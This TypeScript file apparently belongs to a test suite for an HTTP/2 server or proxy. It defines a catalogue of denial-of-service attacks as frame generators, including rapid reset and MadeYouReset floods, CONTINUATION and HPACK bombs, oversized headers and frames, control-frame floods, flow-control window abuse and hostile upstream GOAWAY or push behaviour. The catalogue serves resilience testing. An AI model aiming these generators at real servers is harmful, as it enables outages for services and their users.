/** Attacks of section B: over HTTP/2, on memory and time. */

import { Flag, FrameType } from "#lib/http2/frame.ts";
import { ErrorCode } from "#lib/http2/http2-error.ts";
import { encodeSettings, MAX_WINDOW, SettingId } from "#lib/http2/settings.ts";
import { block, headers } from "../../conformance/http2/scripted-server.ts";
import { frame, word } from "../../fake/http2-rig.ts";
import {
  goAway,
  hpackBomb,
  longRequest,
  MADE_RESETS,
  pushPromise,
  request,
} from "../../faults/http2-bytes.ts";
import { type Attack, flood, greeting, repeated, steps } from "./attack.ts";

const { DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION } =
  FrameType;
const END = Flag.END_STREAM;
const OK = [":status", "200"] as const;

const odd = (index: number): number => 2 * index + 1;
const cancel = (streamId: number): Buffer => frame(RST_STREAM, 0, streamId, word(ErrorCode.CANCEL));
const one = { over: "http2", connections: 1 } as const;
/** 50,000 streams where a connection bears a thousand. */
const many = { over: "http2", connections: 1, total: 50 } as const;

/** The same frame without end, behind others. */
const frames = (id: string, name: string, piece: Buffer, ...before: Buffer[]): Attack => ({
  ...{ id, name, ...one },
  bytes: () => repeated(Buffer.concat([greeting(), ...before]), piece),
});

const RESETS: readonly Attack[] = [
  {
    ...{ id: "B1", name: "rapid reset", ...many },
    bytes: () =>
      flood(greeting(), (i) => Buffer.concat([request(odd(i), END, "/1k"), cancel(odd(i))])),
  },
  ...MADE_RESETS.map(
    ([name, made], index): Attack => ({
      ...{ id: `B2${"abcdef"[index]}`, name: `MadeYouReset: ${name}`, ...many, total: 10 },
      bytes: () =>
        flood(greeting(), (i) => Buffer.concat([request(odd(i), END, "/1k"), made(odd(i))])),
    }),
  ),
  {
    ...{ id: "B36", name: "10,000 streams opened and dropped", over: "http2", drops: true },
    ...{ connections: 10, total: 100 },
    bytes: () => flood(greeting(), (i) => request(odd(i), 0, "/1k"), 100),
  },
];

const BLOCKS: readonly Attack[] = [
  frames(
    "B3",
    "CONTINUATION without end",
    frame(CONTINUATION, 0, 1, Buffer.from("x")),
    frame(HEADERS, END, 1, block([":method", "GET"])),
  ),
  frames(
    "B3b",
    "CONTINUATION of 16 KB",
    frame(CONTINUATION, 0, 1, Buffer.alloc(16_384)),
    frame(HEADERS, END, 1, block([":method", "GET"])),
  ),
  {
    ...{ id: "B9", name: "HPACK bombs", ...one },
    bytes: () => flood(greeting(), (i) => hpackBomb(odd(i))),
  },
  {
    ...{ id: "B9b", name: "HPACK integers without end", over: "http2" },
    ...{ connections: 8, total: 200 },
    bytes: () => {
      const huge = Buffer.concat([Buffer.from("ff", "hex"), Buffer.alloc(16_000, 0x80)]);
      return repeated(greeting(), frame(HEADERS, END | Flag.END_HEADERS, 1, huge));
    },
  },
  {
    ...{ id: "B10", name: "header lists over the limit", ...one },
    bytes: () => flood(greeting(), (i) => longRequest(odd(i), 66_000)),
  },
  {
    ...{ id: "B15", name: "frames over the limit", over: "http2", connections: 8, total: 200 },
    bytes: () => repeated(greeting(), frame(DATA, 0, 1, Buffer.alloc(16_385))),
  },
];

const CONTROL: readonly Attack[] = [
  frames("B4", "SETTINGS", frame(SETTINGS, 0, 0)),
  frames(
    "B4b",
    "2,700 entries in SETTINGS",
    frame(SETTINGS, 0, 0, encodeSettings(Array.from({ length: 2700 }, () => [5, 16_384] as const))),
  ),
  { ...frames("B5", "PING, answers unread", frame(PING, 0, 0, Buffer.alloc(8))), deaf: true },
  frames("B6", "empty DATA", frame(DATA, 0, 1), request(1, 0)),
  {
    ...{ id: "B6b", name: "empty HEADERS", ...one },
    bytes: () => flood(greeting(), (i) => frame(HEADERS, Flag.END_HEADERS | END, odd(i))),
  },
  frames("B7", "WINDOW_UPDATE", frame(WINDOW_UPDATE, 0, 0, word(1))),
  {
    ...{ id: "B8", name: "PRIORITY", ...one },
    bytes: () => flood(greeting(), (i) => frame(PRIORITY, 0, odd(i), Buffer.alloc(5))),
  },
  frames("B34", "PING, answers read", frame(PING, 0, 0, Buffer.alloc(8))),
];

const window = (bytes: number): Buffer =>
  frame(SETTINGS, 0, 0, encodeSettings([[SettingId.INITIAL_WINDOW_SIZE, bytes]]));
const asked = (path: string, count: number, flags: number = END, from = 0): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, i) => request(odd(from + i), flags, path)));

const WINDOWS: readonly Attack[] = [
  {
    ...{ id: "B11", name: "10,000 streams at a time", ...one },
    bytes: () => flood(greeting(), (i) => request(odd(i), 0, "/1k"), 10_000),
  },
  {
    ...{ id: "B12", name: "windows that stay shut on 500 responses of 8 MB", over: "http2" },
    connections: 5,
    bytes: () => [greeting([SettingId.INITIAL_WINDOW_SIZE, 0]), asked("/8m", 100)],
  },
  {
    ...{ id: "B12b", name: "windows opened byte by byte", over: "http2", connections: 4 },
    bytes: () => {
      const wider = Array.from({ length: 100 }, (_, i) => frame(WINDOW_UPDATE, 0, odd(i), word(1)));
      const first = [greeting([SettingId.INITIAL_WINDOW_SIZE, 1]), asked("/8m", 100)];
      return repeated(Buffer.concat(first), Buffer.concat(wider));
    },
  },
  {
    ...{ id: "B12c", name: "requests whose answers nobody reads", over: "http2", deaf: true },
    ...{ connections: 4, everyMs: 10 },
    bytes: () => steps(greeting(), (i) => asked("/10k", 20, END, 20 * i)),
  },
  {
    ...{ id: "B26", name: "initial windows to and fro under 100 streams", ...one },
    bytes: () =>
      repeated(
        Buffer.concat([greeting(), asked("/8m", 100)]),
        Buffer.concat([window(0), window(MAX_WINDOW)]),
      ),
  },
];

const SERVER: Buffer = Buffer.concat([
  frame(SETTINGS, 0, 0, encodeSettings([[SettingId.INITIAL_WINDOW_SIZE, MAX_WINDOW]])),
  frame(WINDOW_UPDATE, 0, 0, word(2 ** 30)),
]);
const AT_ONCE = { over: "http2", connections: 4 } as const;
const asking = (): Iterable<Buffer> => flood(greeting(), (i) => request(odd(i), END, "/1k"), 1000);

const UPSTREAM: readonly Attack[] = [
  {
    ...{ id: "B22", name: "GOAWAY for each request", ...AT_ONCE, bytes: asking },
    upstream: () => [Buffer.concat([SERVER, goAway(0)])],
    upstreamEnds: true,
  },
  {
    ...{ id: "B24", name: "a promise for each request", ...AT_ONCE, bytes: asking },
    upstream: (id) => [Buffer.concat([SERVER, pushPromise(id), headers(id, END, OK)])],
  },
];

/** All of them. */
export const HTTP2_ATTACKS: readonly Attack[] = [
  ...RESETS,
  ...BLOCKS,
  ...CONTROL,
  ...WINDOWS,
  ...UPSTREAM,
];
